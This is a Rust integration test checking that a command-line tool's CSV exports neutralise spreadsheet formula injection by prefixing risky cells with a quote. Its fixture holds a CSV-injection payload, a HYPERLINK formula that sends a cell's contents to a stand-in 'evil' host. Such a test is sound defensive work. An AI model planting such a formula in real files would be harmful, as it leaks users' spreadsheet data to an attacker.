//! Issue 24 item 8: a cell that a spreadsheet would run as a formula (it
//! starts with =, +, -, @, a tab or a carriage return) is written with a
//! leading ' in every CSV output; `--raw-csv` writes the bytes. Checked with
//! Python's own csv reader (python3 is what .ci/run installs).

mod common;

use common::stancegraph_ok as run;
use std::path::Path;
use std::process::Command;

const DOC: &str = r#"{"id":"=HYPERLINK(\"http://evil/?\"&A1,\"click\")","text":"Denmark said \"=SUM(1,2) is the price\".\n- Norway rejected the plan."}"#;

/// Every cell of the CSV files, read by Python's csv module.
fn python_cells(files: &[&Path]) -> Option<Vec<String>> {
    let script = "import csv, json, sys\nprint(json.dumps([c for f in sys.argv[1:] for row in csv.reader(open(f, newline='', encoding='utf-8')) for c in row]))";
    let out = match Command::new("python3")
        .arg("-c")
        .arg(script)
        .args(files)
        .output()
    {
        Ok(out) => out,
        Err(_) if std::env::var("CI").as_deref() != Ok("true") => {
            eprintln!("SKIPPED: python3 is not installed; .ci/run installs it");
            return None;
        }
        Err(e) => panic!("python3 is missing under CI=true: {e}"),
    };
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    Some(serde_json::from_slice(&out.stdout).unwrap())
}

#[test]
fn formula_cells_are_neutralised_in_every_csv_and_raw_csv_keeps_them() {
    let tmp = tempfile::tempdir().unwrap();
    let p = |name: &str| tmp.path().join(name).to_str().unwrap().to_string();
    std::fs::write(p("evil.jsonl"), format!("{DOC}\n")).unwrap();
    run(&["build", &p("evil.jsonl"), "-o", &p("g.json")]);
    run(&[
        "export",
        &p("g.json"),
        "--format",
        "positions-csv",
        "-o",
        &p("positions.csv"),
    ]);
    run(&[
        "export",
        &p("g.json"),
        "--format",
        "csv",
        "-o",
        &p("tables"),
    ]);
    run(&[
        "network",
        &p("g.json"),
        "--type",
        "conflict",
        "-o",
        &p("network.csv"),
    ]);
    run(&[
        "export",
        &p("g.json"),
        "--format",
        "positions-csv",
        "--raw-csv",
        "-o",
        &p("raw.csv"),
    ]);
    let safe = [
        p("positions.csv"),
        p("tables/nodes.csv"),
        p("tables/edges.csv"),
        p("network.csv"),
    ];
    let safe: Vec<&Path> = safe.iter().map(Path::new).collect();
    let Some(cells) = python_cells(&safe) else {
        return;
    };
    assert!(
        cells.iter().any(|c| c.starts_with("'=HYPERLINK(")),
        "the document id is a cell: {cells:?}"
    );
    // an evidence sentence that is a list item starts with "-"
    assert!(
        cells.iter().any(|c| c.starts_with("'- Norway")),
        "{cells:?}"
    );
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a formula cell got through: {c:?}"
        );
    }
    let raw = python_cells(&[Path::new(&p("raw.csv"))]).unwrap();
    assert!(raw.iter().any(|c| c.starts_with("=HYPERLINK(")), "{raw:?}");
}
